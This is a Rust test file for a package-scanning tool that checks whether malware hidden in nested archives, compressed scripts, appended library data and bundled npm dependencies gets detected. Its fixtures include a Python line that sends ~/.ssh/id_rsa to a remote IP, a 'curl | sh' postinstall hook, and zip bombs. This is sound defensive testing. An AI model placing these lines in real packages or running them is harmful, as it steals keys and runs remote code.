//! Archives and packages inside an artifact: their code is read, and what is not read is said.

use crate::fixtures::pack;
use bifocal_behaviour::{ArtifactInput, analyse, analyse_tree};
use bifocal_core::{AnalysisLimits, ArtifactFacts, Ecosystem, Evidence, Signal, Status};
use bifocal_testkit::hostile::compress::gzip;
use bifocal_testkit::hostile::hostile_archives;

const STEALS: &str = "import os, urllib.request\nurllib.request.urlopen('http://192.0.2.7/k', data=open(os.path.expanduser('~/.ssh/id_rsa')).read().encode())\n";
const UNREAD: &str = "behaviour/inner-archive-unread";

fn look(ecosystem: Ecosystem, files: &[(&str, &[u8])]) -> ArtifactFacts {
    let files: Vec<(String, Vec<u8>)> = files.iter().map(|(path, bytes)| ((*path).to_owned(), bytes.to_vec())).collect();
    analyse_tree(Some(ecosystem), &files, &AnalysisLimits::default())
}

fn archive(name: &str, files: &[(&str, &[u8])]) -> Vec<u8> {
    pack(name, &files.iter().map(|(path, bytes)| ((*path).to_owned(), bytes.to_vec())).collect::<Vec<_>>())
}

fn held(facts: &ArtifactFacts) -> Vec<&Signal> {
    facts
        .signals
        .iter()
        .filter(|signal| (signal.is_malware_class() && signal.confidence >= 0.9) || signal.status == Status::Failed)
        .collect()
}

fn places(signal: &Signal) -> Vec<&str> {
    signal
        .evidence
        .iter()
        .filter_map(|evidence| if let Evidence::File { path, .. } = evidence { Some(path.as_str()) } else { None })
        .collect()
}

#[test]
fn code_in_an_archive_that_setup_installs_is_found_under_both_paths() {
    for name in ["payload.tar.gz", "payload.zip", "payload.whl"] {
        let inner =
            archive(name, &[("payload-1.0/setup.py", STEALS.as_bytes()), ("payload-1.0/PKG-INFO", b"Name: payload\nVersion: 1.0\n")]);
        let setup = format!("import subprocess, sys\nsubprocess.call([sys.executable, '-m', 'pip', 'install', 'vendor/{name}'])\n");
        let path = format!("x-1/vendor/{name}");
        let facts =
            look(Ecosystem::Pypi, &[("x-1/setup.py", setup.as_bytes()), ("x-1/PKG-INFO", b"Name: x\nVersion: 1\n"), (&path, &inner)]);
        let found = held(&facts);
        let place = format!("x-1/vendor/{name}!/payload-1.0/setup.py");
        assert!(found.iter().any(|signal| places(signal).contains(&place.as_str())), "{name}: {:#?}", facts.signals);
    }
}

#[test]
fn archives_in_archives_are_read_to_the_bound_and_said_beyond_it() {
    let deepest = archive("c.zip", &[("d/__init__.py", STEALS.as_bytes())]);
    let deeper = archive("b.zip", &[("c.zip", &deepest)]);
    let inner = archive("a.zip", &[("b.zip", &deeper), ("e/__init__.py", STEALS.as_bytes())]);
    let facts = look(Ecosystem::Pypi, &[("x-1/PKG-INFO", b"Name: x\nVersion: 1\n"), ("x-1/x/__init__.py", b""), ("x-1/x/a.zip", &inner)]);
    assert!(facts.signals.iter().any(|signal| places(signal).contains(&"x-1/x/a.zip!/e/__init__.py")), "{:#?}", facts.signals);
    let unread: Vec<&Signal> = facts.signals.iter().filter(|signal| signal.id == UNREAD).collect();
    assert_eq!(unread.len(), 1);
    assert_eq!((unread[0].status, places(unread[0])), (Status::Failed, vec!["x-1/x/a.zip!/b.zip!/c.zip"]));
}

#[test]
fn every_hostile_archive_inside_a_package_is_named_and_holds_nothing_by_itself() {
    for attack in hostile_archives() {
        // What the small bounds of that test refuse, the usual ones may take.
        if attack.bytes.len() < 8 || bifocal_archive::unpack(&attack.bytes, &AnalysisLimits::default().archive).is_ok() {
            continue;
        }
        if bifocal_archive::sniff(&attack.bytes).is_none() && bifocal_archive::unread_format("test.bin", &attack.bytes).is_none() {
            continue;
        }
        let facts = look(
            Ecosystem::Pypi,
            &[("x-1/PKG-INFO", b"Name: x\nVersion: 1\n"), ("x-1/x/__init__.py", b""), ("x-1/x/test.bin", &attack.bytes)],
        );
        let named = facts.signals.iter().any(|signal| signal.id == UNREAD && signal.message.contains("x-1/x/test.bin"));
        let lenient = matches!(attack.refusal, "duplicate-entry" | "case-collision");
        assert!(named || lenient, "{}: {:#?}", attack.name, facts.signals);
        assert!(held(&facts).is_empty(), "{}: {:#?}", attack.name, facts.signals);
    }
}

#[test]
fn a_bomb_beside_a_payload_does_not_hide_it() {
    let zeros = vec![0u8; 200 << 20];
    let bomb = archive("bomb.zip", &[("zeros.bin", &zeros)]);
    let payload = archive("payload.zip", &[("e/__init__.py", STEALS.as_bytes()), ("padding.bin", &bomb)]);
    let facts = look(
        Ecosystem::Pypi,
        &[("x-1/PKG-INFO", b"Name: x\nVersion: 1\n"), ("x-1/a.zip", &bomb), ("x-1/b.zip", &bomb), ("x-1/c.zip", &payload)],
    );
    assert!(facts.signals.iter().any(|signal| places(signal).contains(&"x-1/c.zip!/e/__init__.py")), "{:#?}", facts.signals);
    assert!(facts.signals.iter().any(|signal| signal.id == UNREAD && signal.message.contains("a.zip")));
}

#[test]
fn an_archive_that_only_the_install_script_can_open_holds() {
    let locked = bifocal_testkit::hostile::zip::write(&[
        bifocal_testkit::hostile::zip::ZipEntry::stored("run.exe", b"MZ").both(|fields| fields.flags |= 1)
    ]);
    let setup =
        b"import zipfile, subprocess\nzipfile.ZipFile('assets.zip').extractall('out', pwd=b'example')\nsubprocess.Popen(['out/run.exe'])\n";
    let info = ("x-1/PKG-INFO", &b"Name: x\nVersion: 1\n"[..]);
    let facts = look(Ecosystem::Pypi, &[("x-1/setup.py", setup), info, ("x-1/assets.zip", &locked)]);
    assert!(held(&facts).iter().any(|signal| signal.id == UNREAD), "{:#?}", facts.signals);
    let twin =
        look(Ecosystem::Pypi, &[("x-1/setup.py", b"from setuptools import setup\nsetup()\n"), info, ("x-1/tests/assets.zip", &locked)]);
    assert!(held(&twin).is_empty(), "{:#?}", twin.signals);
}

#[test]
fn a_compressed_script_is_read_and_compressed_data_is_not_an_archive() {
    let facts = look(
        Ecosystem::Pypi,
        &[
            ("x-1/PKG-INFO", b"Name: x\nVersion: 1\n"),
            ("x-1/x/run.py.gz", &gzip(STEALS.as_bytes())),
            ("x-1/x/table.csv.gz", &gzip(b"a,b\n1,2\n")),
        ],
    );
    assert!(facts.signals.iter().any(|signal| places(signal).contains(&"x-1/x/run.py.gz!/run.py")), "{:#?}", facts.signals);
}

/// A shared library of half a megabyte with `behind` appended, in an npm package whose install script opens it.
fn library_with(behind: &[u8]) -> ArtifactFacts {
    let mut library = b"\x7fELF\x02\x01\x01".to_vec();
    library.resize(512 << 10, 0x90);
    library.extend_from_slice(behind);
    let manifest = b"{\"name\":\"x\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"PYTHONPATH=lib/core.so python3 -m e\"}}";
    let bytes = archive("x-1.0.0.tgz", &[("package/package.json", manifest), ("package/lib/core.so", &library)]);
    analyse(&ArtifactInput { ecosystem: Some(Ecosystem::Npm), filename: "x-1.0.0.tgz", bytes: &bytes }, &AnalysisLimits::default())
}

#[test]
fn an_archive_behind_large_machine_code_is_read() {
    let facts = library_with(&archive("e.zip", &[("e/__init__.py", STEALS.as_bytes())]));
    let place = "package/lib/core.so!/e/__init__.py";
    assert!(held(&facts).iter().any(|signal| places(signal).contains(&place)), "{:#?}", facts.signals);
}

#[test]
fn an_archive_behind_large_machine_code_that_is_refused_is_said_and_what_only_ends_like_one_is_not() {
    let bomb = archive("bomb.zip", &[("zeros.py", &vec![0u8; 200 << 20])]);
    let facts = library_with(&bomb);
    assert!(facts.signals.iter().any(|signal| signal.id == UNREAD && signal.message.contains("core.so")), "{:#?}", facts.signals);
    let harmless = library_with(&archive("e.zip", &[("e/__init__.py", b"NAME = 'x'\n")]));
    let feint = library_with(b"PK\x05\x06\0\0\0\0\xff\x7f\xff\x7f\xff\xff\xff\x7f\xff\xff\xff\x7f\0\0");
    for twin in [harmless, feint, library_with(b"")] {
        let told: Vec<&str> = twin.signals.iter().map(|signal| signal.id.as_str()).collect();
        assert!(held(&twin).is_empty() && !told.contains(&UNREAD), "{told:?}");
    }
}

#[test]
fn a_folder_named_like_an_archive_does_not_hide_what_is_in_it() {
    let inner = archive("p.zip", &[("e/__init__.py", STEALS.as_bytes())]);
    let facts = look(
        Ecosystem::Pypi,
        &[("x-1/PKG-INFO", b"Name: x\nVersion: 1\n"), ("x-1/p.zip", &inner), ("x-1/p.zip!/e/__init__.py", b"pass\n")],
    );
    assert!(facts.signals.iter().any(|signal| places(signal).contains(&"x-1/p.zip!!/e/__init__.py")), "{:#?}", facts.signals);
}

const HOOK: &str = "\"scripts\":{\"postinstall\":\"curl -s http://192.0.2.7/x | sh\"}";

fn bundle(outer: &str, inner: &[(&str, &str)]) -> ArtifactFacts {
    let outer = format!("{{\"name\":\"x\",\"version\":\"1.0.0\"{outer}}}");
    let mut files: Vec<(String, Vec<u8>)> =
        vec![("package/package.json".to_owned(), outer.into_bytes()), ("package/index.js".to_owned(), b"".to_vec())];
    files.extend(inner.iter().map(|(path, text)| (format!("package/{path}"), text.as_bytes().to_vec())));
    analyse_tree(Some(Ecosystem::Npm), &files, &AnalysisLimits::default())
}

#[test]
fn install_scripts_of_bundled_dependencies_run_as_npm_runs_them() {
    let manifest = |name: &str, more: &str| format!("{{\"name\":\"{name}\",\"version\":\"1.0.0\"{more}}}");
    let hook = format!(",{HOOK}");
    let a = manifest("a", &hook);
    let b = manifest("b", &hook);
    let plain = manifest("a", ",\"dependencies\":{\"b\":\"1.0.0\"}");
    type Case<'a> = (&'a str, Vec<(&'a str, &'a str)>, bool);
    let cases: [Case<'_>; 9] = [
        (",\"bundledDependencies\":[\"a\"]", vec![("node_modules/a/package.json", &a)], true),
        (",\"bundleDependencies\":{\"a\":\"1\"}", vec![("node_modules/a/package.json", &a)], true),
        (",\"bundleDependencies\":true,\"dependencies\":{\"a\":\"1\"}", vec![("node_modules/a/package.json", &a)], true),
        // Reached through a listed one, hoisted or not.
        (",\"bundledDependencies\":[\"a\"]", vec![("node_modules/a/package.json", &plain), ("node_modules/b/package.json", &b)], true),
        (
            ",\"bundledDependencies\":[\"a\"]",
            vec![("node_modules/a/package.json", &plain), ("node_modules/a/node_modules/b/package.json", &b)],
            true,
        ),
        (",\"bundledDependencies\":[\"@s/a\"]", vec![("node_modules/@s/a/package.json", &a)], true),
        // Not listed: npm runs nothing of it.
        ("", vec![("node_modules/a/package.json", &a)], false),
        (",\"bundledDependencies\":[\"c\"]", vec![("node_modules/a/package.json", &a)], false),
        (",\"bundleDependencies\":[],\"bundledDependencies\":[\"a\"]", vec![("node_modules/a/package.json", &a)], false),
    ];
    for (outer, inner, runs) in cases {
        let facts = bundle(outer, &inner);
        assert_eq!(!held(&facts).is_empty(), runs, "{outer} {inner:?}: {:#?}", facts.signals);
    }
}

#[test]
fn a_bundled_module_runs_where_it_is_required() {
    let bad = "require('child_process').exec('curl -s http://192.0.2.7/x | sh')";
    let inner = [
        ("node_modules/helper/package.json", "{\"name\":\"helper\",\"version\":\"1.0.0\",\"main\":\"lib/main\"}"),
        ("node_modules/helper/lib/main.js", bad),
        ("run.js", "require('helper')"),
    ];
    let facts = bundle(",\"scripts\":{\"postinstall\":\"node run.js\"}", &inner);
    assert!(held(&facts).iter().any(|signal| places(signal).contains(&"package/node_modules/helper/lib/main.js")), "{:#?}", facts.signals);
    let called = [
        ("node_modules/@s/helper/package.json", "{\"name\":\"@s/helper\",\"version\":\"1.0.0\"}"),
        ("node_modules/@s/helper/index.js", &format!("exports.go = () => {{ {bad} }}")),
        ("run.js", "const h = require('@s/helper'); h.go()"),
    ];
    let called: Vec<(&str, &str)> = called.iter().map(|(path, text)| (*path, *text)).collect();
    let facts = bundle(",\"scripts\":{\"postinstall\":\"node run.js\"}", &called);
    assert!(held(&facts).iter().any(|signal| places(signal).contains(&"package/node_modules/@s/helper/index.js")), "{:#?}", facts.signals);
}

#[test]
fn an_archive_nested_too_deep_holds_unless_it_is_data_of_tests() {
    let mut inner = archive("0.zip", &[("d/__init__.py", STEALS.as_bytes())]);
    for depth in 1..8 {
        inner = archive("n.zip", &[(&format!("tests/{depth}.zip"), &inner)]);
    }
    let info = ("x-1/PKG-INFO", &b"Name: x\nVersion: 1\n"[..]);
    let status = |facts: &ArtifactFacts| facts.signals.iter().find(|signal| signal.id == UNREAD).map(|signal| signal.status);
    let facts = look(Ecosystem::Pypi, &[info, ("x-1/x/a.zip", &inner)]);
    assert_eq!(status(&facts), Some(Status::Failed), "{:#?}", facts.signals);
    let twin = look(Ecosystem::Pypi, &[info, ("x-1/tests/a.zip", &inner)]);
    assert_eq!(status(&twin), Some(Status::Unknown), "{:#?}", twin.signals);
    assert!(held(&twin).is_empty());
}

#[test]
fn paths_that_are_one_where_case_is_ignored_are_said_and_go_modules_with_them_refused() {
    let manifest = ("package/package.json", &b"{\"name\":\"x\",\"version\":\"1.0.0\"}"[..]);
    let look = |ecosystem, filename: &str, files: &[(&str, &[u8])]| {
        analyse(&ArtifactInput { ecosystem: Some(ecosystem), filename, bytes: &archive(filename, files) }, &AnalysisLimits::default())
    };
    let told = |facts: &ArtifactFacts| facts.signals.iter().any(|signal| signal.id == "behaviour/case-collision");
    let facts = look(Ecosystem::Npm, "x-1.0.0.tgz", &[manifest, ("package/README.md", b"a"), ("package/readme.md", b"b")]);
    assert!(told(&facts) && held(&facts).is_empty(), "{:#?}", facts.signals);
    let twin = look(Ecosystem::Npm, "x-1.0.0.tgz", &[manifest, ("package/README.md", b"a"), ("package/lib/readme.md", b"b")]);
    assert!(!told(&twin), "{:#?}", twin.signals);
    let module = look(
        Ecosystem::Golang,
        "v1.0.0.zip",
        &[("example.com/x@v1.0.0/A.go", b"package x\n"), ("example.com/x@v1.0.0/a.go", b"package x\n")],
    );
    assert!(held(&module).iter().any(|signal| signal.id == "behaviour/archive-refused"), "{:#?}", module.signals);
}
